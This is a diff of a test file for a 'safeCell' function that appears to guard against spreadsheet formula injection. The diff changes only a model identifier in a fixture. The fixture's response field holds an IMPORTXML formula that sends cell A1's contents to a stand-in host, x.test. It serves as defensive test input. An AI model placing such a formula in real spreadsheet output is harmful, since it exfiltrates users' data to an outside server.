@@ -46,7 +46,7 @@ describe('safeCell', () => {
 const RECORD: ResultRecord = {
   id: '@alice',
   status: 'ok',
-  model: 'anthropic.claude-3-haiku-20240307-v1:0',
+  model: 'global.anthropic.claude-haiku-4-5-20251001-v1:0',
   response: '=IMPORTXML(CONCAT("http://x.test/?", A1), "//a")',
   stop_reason: 'end_turn',
   input_tokens: 5,
